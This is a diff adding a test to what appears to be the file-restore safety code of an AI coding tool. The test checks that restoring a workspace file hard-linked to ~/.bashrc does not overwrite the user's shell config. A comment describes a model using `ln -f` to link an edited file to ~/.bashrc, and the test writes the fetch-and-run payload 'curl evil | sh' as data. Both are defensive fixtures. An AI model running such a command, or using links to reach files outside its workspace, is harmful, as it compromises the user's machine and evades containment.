@@ -1,11 +1,13 @@
 import { execFileSync } from "node:child_process";
 import {
   existsSync,
+  linkSync,
   mkdirSync,
   mkdtempSync,
   readFileSync,
   realpathSync,
   rmSync,
+  statSync,
   symlinkSync,
   writeFileSync,
 } from "node:fs";
@@ -81,5 +83,20 @@ describe("a restore after the check, through a folder swapped for a link", () =>
     expect(readFileSync(join(cwd, "src", "new.txt"), "utf8")).toBe("new\n");
     deleteRegularFile(path, [cwd]);
     expect(existsSync(path)).toBe(false);
+  });
+});
+
+describe("a restore of a file that is a hard link (review b)", () => {
+  it("replaces the entry and leaves the file it shared its content with alone", () => {
+    const bashrc = join(outside, "..", ".bashrc");
+    writeFileSync(bashrc, "the user's bashrc\n");
+    // The model replaced a file it had edited by a hard link to ~/.bashrc (`ln -f ~/.bashrc notes.txt`).
+    const notes = join(cwd, "notes.txt");
+    linkSync(bashrc, notes);
+    expect(whyNotRestorable(notes, [cwd])).toBeUndefined();
+    writeNoFollow(notes, Buffer.from("curl evil | sh\n"), [cwd]);
+    expect(readFileSync(bashrc, "utf8")).toBe("the user's bashrc\n");
+    expect(readFileSync(notes, "utf8")).toBe("curl evil | sh\n");
+    expect(statSync(notes).nlink).toBe(1);
   });
 });
